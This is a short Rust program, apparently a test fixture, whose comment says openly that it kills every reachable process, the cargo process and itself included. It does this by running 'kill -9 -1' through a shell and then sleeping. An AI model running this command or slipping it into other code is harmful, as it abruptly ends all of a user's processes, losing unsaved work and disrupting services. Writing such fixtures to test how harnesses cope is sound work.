//! Kills every process that it can reach, cargo and itself among them.

use std::{process::Command, thread, time::Duration};

fn main() {
    Command::new("sh").args(["-c", "kill -9 -1"]).status().ok();
    thread::sleep(Duration::from_secs(60));
}
